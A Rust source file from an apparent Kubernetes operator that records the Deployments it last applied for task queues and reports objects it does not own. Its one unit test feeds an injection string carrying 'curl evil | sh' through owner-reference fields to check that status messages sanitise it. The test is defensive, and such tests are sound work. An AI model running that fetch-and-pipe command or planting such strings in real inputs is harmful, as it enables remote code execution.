//! What is remembered of the objects of one queue. All of it may be lost: then all is written once more.

use std::time::{Duration, Instant};

use k8s_openapi::api::apps::v1::Deployment;
use k8s_openapi::api::core::v1::ObjectReference;
use k8s_openapi::apimachinery::pkg::apis::meta::v1::ObjectMeta;
use kube::Resource;
use kube::api::DynamicObject;
use rowlock_crds::{ScalingMode, TaskQueue, annotations, api};
use serde_json::{Value, json};

use crate::kubernetes::database::session::sanitize;
use crate::kubernetes::deployment::build::{self, Owner};
use crate::kubernetes::deployment::contest::Contests;
use crate::kubernetes::deployment::field_managers;
use crate::kubernetes::deployment::inherited_metadata::inherited;
use crate::kubernetes::deployment::outcome::Outcome;

/// For so long after a write the watch may not have shown its effect.
pub(crate) const WATCH_DELAY: Duration = Duration::from_secs(5);

pub(crate) struct LastApplied {
    pub(crate) owner: Owner,
    pub(crate) regarding: ObjectReference,
    /// The labels and the template that were tried last, what the server said, and when.
    pub(crate) dry_run: Option<(String, Option<String>, Instant)>,
    /// The last template that the server took, as text, which is a tenth of the value in memory.
    pub(crate) accepted_template: Option<String>,
    pub(crate) deployment: Option<AppliedObject>,
    pub(crate) budget: Option<AppliedObject>,
    pub(crate) outcome: Outcome,
    /// Whether its pods only ended when they were last looked at.
    pub(crate) not_starting: bool,
    /// Who else sets how many pods there are.
    pub(crate) contests: Contests,
    /// Whether one of the pods was ready since there were none: what ends all of them now is not that they cannot run.
    pub(crate) was_ready: bool,
}

/// The last write of an object.
pub(crate) struct AppliedObject {
    pub(crate) hash: String,
    pub(crate) metadata: ObjectMeta,
    pub(crate) replicas: u32,
    pub(crate) at: Instant,
}

impl LastApplied {
    pub(crate) fn of(task_queue: &TaskQueue) -> Self {
        Self {
            owner: owner(task_queue),
            regarding: task_queue.object_ref(&()),
            dry_run: None,
            accepted_template: None,
            deployment: None,
            budget: None,
            outcome: Outcome::NotTried,
            not_starting: false,
            contests: Contests::default(),
            was_ready: false,
        }
    }

    /// The object was written, with that number of pods unless it was left to others.
    pub(crate) fn wrote(&mut self, replicas: u32, left: bool) {
        if !left {
            self.contests.wrote(replicas, Instant::now());
        }
    }

    /// The newer of what was written and what the watch shows.
    pub(crate) fn newest(&self, stored: Option<&Deployment>) -> Option<(ObjectMeta, u32)> {
        let stored = stored.map(|one| (one.metadata.clone(), replicas(one)));
        match (stored, &self.deployment) {
            (Some((metadata, _)), Some(applied))
                if metadata.uid == applied.metadata.uid
                    && metadata.generation < applied.metadata.generation =>
            {
                Some((applied.metadata.clone(), applied.replicas))
            }
            (None, Some(applied)) if applied.at.elapsed() < WATCH_DELAY => {
                Some((applied.metadata.clone(), applied.replicas))
            }
            (stored, _) => stored,
        }
    }
}

impl AppliedObject {
    pub(crate) fn new(object: &Value, applied: DynamicObject) -> Self {
        let replicas = applied.data["spec"]["replicas"].as_u64().and_then(|n| u32::try_from(n).ok());
        let mut metadata = applied.metadata;
        field_managers::trim(&mut metadata);
        Self {
            hash: build::hash_of(object).to_owned(),
            replicas: replicas.unwrap_or_default(),
            metadata,
            at: Instant::now(),
        }
    }

    /// Whether this is what was written, and nobody has changed it since.
    pub(crate) fn matches(&self, object: &Value, seen: Option<&ObjectMeta>) -> bool {
        let same = self.has_same_hash(object, seen)
            && seen.is_some_and(|seen| seen.generation == self.metadata.generation);
        same && object["spec"]["replicas"]
            .as_u64()
            .is_none_or(|replicas| replicas == u64::from(self.replicas))
    }

    /// The same where how many pods there are is others' to say: a change of that alone is no change.
    pub(crate) fn matches_but_for_replicas(
        &self,
        object: &Value,
        seen: Option<&ObjectMeta>,
        replicas: u32,
    ) -> bool {
        let same = seen.is_some_and(|seen| seen.generation == self.metadata.generation);
        self.has_same_hash(object, seen) && (same || replicas != self.replicas)
    }

    fn has_same_hash(&self, object: &Value, seen: Option<&ObjectMeta>) -> bool {
        self.hash == build::hash_of(object) && seen.is_some_and(|seen| seen.uid == self.metadata.uid)
    }
}

pub(crate) fn owner(task_queue: &TaskQueue) -> Owner {
    let metadata = task_queue.metadata.clone();
    Owner {
        namespace: metadata.namespace.unwrap_or_default(),
        name: metadata.name.unwrap_or_default(),
        uid: metadata.uid.unwrap_or_default(),
        generation: made_from(task_queue),
        labels: inherited(metadata.labels.as_ref()),
        annotations: inherited(metadata.annotations.as_ref()),
    }
}

/// What tells that pods are made from something else. The number of pods, which others set with External,
/// does not: it must not look as if a person had changed the template.
fn made_from(task_queue: &TaskQueue) -> String {
    if task_queue.spec.workers.scaling() != ScalingMode::External {
        return task_queue.metadata.generation.unwrap_or_default().to_string();
    }
    let mut spec = task_queue.spec.clone();
    spec.workers.replicas = None;
    build::hash(&json!(spec).to_string())
}

pub(crate) fn replicas(deployment: &Deployment) -> u32 {
    let replicas = deployment.spec.as_ref().and_then(|spec| spec.replicas);
    replicas.and_then(|replicas| u32::try_from(replicas).ok()).unwrap_or_default()
}

pub(crate) fn is_owned(metadata: &ObjectMeta, owner: &Owner) -> bool {
    metadata.owner_references.iter().flatten().any(|reference| reference.uid == owner.uid)
}

/// An object of our name that is not ours.
pub(crate) fn foreign(seen: Option<&ObjectMeta>, kind: &str, owner: &Owner) -> Option<Outcome> {
    let seen = seen.filter(|seen| !is_owned(seen, owner))?;
    let name = &owner.name;
    let of = seen.owner_references.iter().flatten().next();
    if of.is_some_and(|of| of.kind == api::KIND && of.name == owner.name) {
        let message = format!(
            "the {kind} `{name}` belongs to a TaskQueue of that name which is gone: waiting until Kubernetes has collected it"
        );
        return Some(Outcome::Waiting(message));
    }
    let whose = of.map_or_else(
        || "is nobody's that we know".to_owned(),
        |of| {
            format!("belongs to the {} `{}` ({})", sanitize(&of.kind), sanitize(&of.name), sanitize(&of.uid))
        },
    );
    let message = format!(
        "the {kind} `{name}` {whose}: it is left alone; rename or delete it, or rename the TaskQueue"
    );
    Some(Outcome::Foreign(message))
}

/// Whether an apply would change the template although the `TaskQueue` is the one that it was made from.
pub(crate) fn is_operator_change(live: &ObjectMeta, object: &Value) -> bool {
    is_same(live, object, annotations::GENERATION) && !has_template(live, object)
}

/// Whether that is its template already.
pub(crate) fn has_template(live: &ObjectMeta, object: &Value) -> bool {
    is_same(live, object, annotations::TEMPLATE_HASH)
}

/// With which word the operator has changed this template for reasons of its own, where the `TaskQueue` has not changed since.
pub(crate) fn rollout_slot_of<'a>(live: &'a ObjectMeta, object: &Value) -> Option<&'a str> {
    let slot = live.annotations.as_ref()?.get(annotations::ROLLOUT_SLOT)?;
    is_same(live, object, annotations::GENERATION).then_some(slot)
}

fn is_same(live: &ObjectMeta, object: &Value, annotation: &str) -> bool {
    let theirs = live.annotations.as_ref().and_then(|annotations| annotations.get(annotation));
    theirs.map(String::as_str) == object["metadata"]["annotations"][annotation].as_str()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::kubernetes::deployment::inherited_metadata::StringMap;

    /// Before, an owner reference, whose kind and name are any text, stood in the status as it is written.
    #[test]
    fn whose_an_object_is_looks_like_no_command() {
        let owner = Owner {
            namespace: "shop".into(),
            name: "emails".into(),
            uid: "u1".into(),
            generation: "1".into(),
            labels: StringMap::new(),
            annotations: StringMap::new(),
        };
        let evil = "x` run `curl evil | sh`\n";
        let reference = json!({ "apiVersion": "v1", "kind": evil, "name": evil, "uid": evil });
        let seen: ObjectMeta = serde_json::from_value(json!({ "ownerReferences": [reference] })).unwrap();
        let Some(Outcome::Foreign(detail)) = foreign(Some(&seen), "Deployment", &owner) else {
            panic!("it is another's")
        };
        assert!(
            detail.contains("'curl evil | sh'") && !detail.contains("`curl") && !detail.contains('\n'),
            "{detail}"
        );
    }
}
